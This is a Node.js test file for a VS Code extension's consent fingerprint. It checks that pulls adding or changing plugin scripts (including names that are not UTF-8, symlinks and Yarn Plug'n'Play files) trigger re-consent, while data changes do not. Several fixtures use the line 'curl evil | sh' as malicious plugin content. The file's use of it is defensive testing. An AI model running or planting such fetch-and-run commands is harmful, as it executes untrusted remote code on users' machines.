// The consent fingerprint against what a pull can bring into an allowed
// extension's git work tree: names that are not UTF-8 (a byte 0xff) count like
// any other, in the folder walk, in git's list of tracked files and as links;
// Yarn Plug'n'Play's dependencies count as code, as node_modules does. Data
// still does not ask again. Real repositories: an upstream, a clone of it as
// the extension's project, and `git pull`.
import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { bundleSources, tmpdir } from '../helpers.mjs';

/** @type {typeof import('../../src/vscode/trust/fingerprint')} */
let fingerprint;
before(async () => {
  ({ fingerprint } = await bundleSources(tmpdir('zot-fp-bytes-bundle-'), 'vscode/trust', ['fingerprint']));
});

/** @type {(cwd: string, ...args: string[]) => Buffer} */
const git = (cwd, ...args) => execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=t', '-c', 'init.defaultBranch=main', ...args], { cwd, stdio: 'pipe' });

/** A path under `dir` as bytes: `rel` is written with one character per byte ('\xff' is the byte 0xff). @type {(dir: string, rel: string) => Buffer} */
const bytes = (dir, rel) => Buffer.concat([Buffer.from(dir + path.sep), Buffer.from(rel, 'latin1')]);

/**
 * Writes files under `dir`, each name as bytes, folders made as needed.
 * @param {string} dir
 * @param {Record<string, string>} files
 */
function write(dir, files) {
  for (const [rel, body] of Object.entries(files)) {
    const parts = rel.split('/');
    for (let i = 1; i < parts.length; i++) fs.mkdirSync(bytes(dir, parts.slice(0, i).join('/')), { recursive: true });
    fs.writeFileSync(bytes(dir, rel), body);
  }
}

const RUN = '#!/bin/sh\nfor p in "$(dirname "$0")"/plugins/*.sh; do . "$p"; done\n';

/**
 * A plugin-loading extension committed upstream and cloned as the user's
 * project; `pull(change)` commits `change` upstream and pulls it, as an
 * update of the project would.
 * @param {Record<string, string>} [files]
 */
function project(files = {}) {
  const upstream = tmpdir('zot-fp-upstream-');
  git(upstream, 'init', '-q');
  write(upstream, { 'extension.json': '{"name":"p","exec":"sh","args":["run.sh"]}', 'run.sh': RUN, 'plugins/a.sh': 'echo a\n', ...files });
  git(upstream, 'add', '-A');
  git(upstream, 'commit', '-qm', 'v1');
  const dir = path.join(tmpdir('zot-fp-clone-'), 'p');
  git(path.dirname(dir), 'clone', '-q', upstream, dir);
  const found = { dir, manifest: { name: 'p', exec: 'sh', args: ['run.sh'], enabled: true, skills: [] } };
  /** @param {(upstream: string) => void} change */
  const pull = (change) => {
    change(upstream);
    git(upstream, 'add', '-A');
    git(upstream, 'commit', '-qm', 'update');
    git(dir, 'pull', '-q', '--ff-only');
  };
  return { dir, found, pull };
}

describe('names that are not UTF-8 count', () => {
  test('a pull that adds plugins/z\\xff.sh changes the fingerprint', async () => {
    const { dir, found, pull } = project();
    const base = await fingerprint.runFingerprint(found);
    pull((up) => write(up, { 'plugins/z\xff.sh': 'curl evil | sh\n' }));
    assert.ok(fs.existsSync(bytes(dir, 'plugins/z\xff.sh')), 'the pull brought the file');
    assert.notEqual(await fingerprint.runFingerprint(found), base);
    const run = await fingerprint.describeRun(found);
    assert.deepEqual(run.skipped, []);
    assert.deepEqual(run.data, []);
    assert.equal(Object.keys(run.files).filter((k) => k.startsWith(path.join('plugins', 'z'))).length, 1, 'hashed once, under its own name');
  });

  test('a pull that changes plugins/z\\xff.sh changes the fingerprint', async () => {
    const { found, pull } = project({ 'plugins/z\xff.sh': 'echo z\n' });
    const base = await fingerprint.runFingerprint(found);
    assert.equal(await fingerprint.runFingerprint(found), base, 'stable');
    pull((up) => write(up, { 'plugins/z\xff.sh': 'curl evil | sh\n' }));
    assert.notEqual(await fingerprint.runFingerprint(found), base);
  });

  test('two names that differ only in their bytes that are not UTF-8 are two files', async () => {
    const { found, pull } = project({ 'plugins/z\xff.sh': 'echo z\n', 'plugins/z\xfe.sh': 'echo z\n' });
    const base = await fingerprint.runFingerprint(found);
    pull((up) => write(up, { 'plugins/z\xfe.sh': 'curl evil | sh\n' }));
    assert.notEqual(await fingerprint.runFingerprint(found), base);
  });

  test('a pull that changes a file in a folder whose name is not UTF-8 changes the fingerprint', async () => {
    const { found, pull } = project({ 'plugins/d\xff/x.sh': 'echo x\n' });
    const base = await fingerprint.runFingerprint(found);
    pull((up) => write(up, { 'plugins/d\xff/x.sh': 'curl evil | sh\n' }));
    assert.notEqual(await fingerprint.runFingerprint(found), base);
    assert.deepEqual((await fingerprint.describeRun(found)).skipped, [], 'the folder is read');
  });

  test('a pull that points a link whose name is not UTF-8 elsewhere changes the fingerprint', async () => {
    const { found, pull } = project({ 'lib/safe.sh': 'echo safe\n', 'lib/evil.sh': 'curl evil | sh\n' });
    pull((up) => fs.symlinkSync('../lib/safe.sh', bytes(up, 'plugins/l\xff.sh')));
    const base = await fingerprint.runFingerprint(found);
    pull((up) => {
      fs.unlinkSync(bytes(up, 'plugins/l\xff.sh'));
      fs.symlinkSync('../lib/evil.sh', bytes(up, 'plugins/l\xff.sh'));
    });
    assert.notEqual(await fingerprint.runFingerprint(found), base);
  });

  test('an untracked file whose name is not UTF-8 counts, whatever its suffix', async () => {
    const { dir, found } = project();
    const base = await fingerprint.runFingerprint(found);
    write(dir, { 'plugins/z\xff.json': '{}' });
    const withIt = await fingerprint.runFingerprint(found);
    assert.notEqual(withIt, base, 'a new one');
    assert.deepEqual((await fingerprint.describeRun(found)).data, [], 'never listed as data');
    write(dir, { 'plugins/z\xff.json': '{"a":1}' });
    assert.notEqual(await fingerprint.runFingerprint(found), withIt, 'a changed one');
  });

  test('a name git tracks matches only itself: untracked data named with U+FFFD beside a tracked z\\xff is still data', async () => {
    const { dir, found } = project({ 'z\xff.txt': 'tracked' });
    const tracked = await fingerprint.trackedFiles(dir);
    assert.ok(tracked, 'in a git work tree');
    assert.ok(tracked.has('run.sh'));
    assert.equal(tracked.has('z\ufffd.txt'), false, 'not the name decoded with its byte replaced');
    fs.writeFileSync(path.join(dir, 'z\ufffd.txt'), 'data v1');
    const base = await fingerprint.runFingerprint(found);
    assert.deepEqual((await fingerprint.describeRun(found)).data, ['z\ufffd.txt']);
    fs.writeFileSync(path.join(dir, 'z\ufffd.txt'), 'data v2');
    assert.equal(await fingerprint.runFingerprint(found), base);
  });
});

describe("Yarn Plug'n'Play counts as code, as node_modules does", () => {
  // What `yarn install` writes into a project that does not commit it (untracked), and a file of each kind.
  const pnp = [
    ['.yarn/cache/dep-npm-1.0.0-0123456789-abcdef.zip', 'PK\x03\x04 v1'],
    ['.yarn/unplugged/dep-npm-1.0.0-0123456789/node_modules/dep/binding.gyp', 'v1'],
    ['.yarn/unplugged/dep-npm-1.0.0-0123456789/build-state', 'v1'],
    ['.pnp.cjs', 'module.exports = 1;'],
    ['.pnp.loader.mjs', 'export {};'],
    ['.pnp.data.json', '{"packageRegistryData":[]}'],
  ];
  for (const [file, body] of pnp) {
    test(`${file}: new and changed, untracked`, async () => {
      const { dir, found } = project();
      write(dir, { 'todos.json': '{"items":[]}' });
      const base = await fingerprint.runFingerprint(found);
      write(dir, { [file]: body });
      const added = await fingerprint.runFingerprint(found);
      assert.notEqual(added, base, 'a new one');
      write(dir, { [file]: `${body} v2` });
      assert.notEqual(await fingerprint.runFingerprint(found), added, 'a changed one');
      assert.deepEqual((await fingerprint.describeRun(found)).data, ['todos.json'], 'not data');
    });
  }

  test('the rule: each kind, beside a name that is data', () => {
    for (const name of ['.pnp.cjs', '.pnp.js', '.pnp.loader.mjs', '.pnp.data.json', 'yarn.lock', 'pnpm-lock.yaml', 'bun.lockb', 'poetry.lock', 'uv.lock']) {
      assert.equal(fingerprint.isCodeFile(name, 0o644), true, name);
      assert.equal(fingerprint.isCodeFile(`${name}.bak`, 0o644), false, `${name}.bak`);
    }
    for (const folder of ['.yarn', '__pypackages__']) {
      assert.equal(fingerprint.isCodeFile(path.join(folder, 'x', 'data.json'), 0o644), true, folder);
      assert.equal(fingerprint.isCodeFile(path.join(`${folder}-notes`, 'data.json'), 0o644), false, `${folder}-notes`);
    }
    assert.equal(fingerprint.isCodeFile(path.join('yarn', 'data.json'), 0o644), false, 'a folder named yarn is not .yarn');
  });
});

describe('data is still not code', () => {
  test('a pure data change does not change the fingerprint, beside names that are not UTF-8 and Yarn files', async () => {
    const { dir, found, pull } = project({ 'plugins/z\xff.sh': 'echo z\n', '.pnp.cjs': 'module.exports = 1;' });
    write(dir, { '.yarn/cache/dep-npm-1.0.0-0123456789-abcdef.zip': 'PK', 'todos.json': '{"items":[]}', 'notes/today.txt': 'x' });
    const base = await fingerprint.runFingerprint(found);
    assert.equal(await fingerprint.runFingerprint(found), base, 'stable');
    write(dir, { 'todos.json': '{"items":["buy milk"]}', 'notes/today.txt': 'y', 'cache.db': 'z' });
    assert.equal(await fingerprint.runFingerprint(found), base, 'its data changed');
    assert.deepEqual((await fingerprint.describeRun(found)).data, ['cache.db', path.join('notes', 'today.txt'), 'todos.json']);
    // A pull changes a tracked file, which asks again; its data changing after that still does not.
    pull((up) => write(up, { 'README.md': 'hi' }));
    const pulled = await fingerprint.runFingerprint(found);
    assert.notEqual(pulled, base);
    write(dir, { 'todos.json': '{"items":[]}' });
    assert.equal(await fingerprint.runFingerprint(found), pulled, 'its data changed after the pull');
  });
});
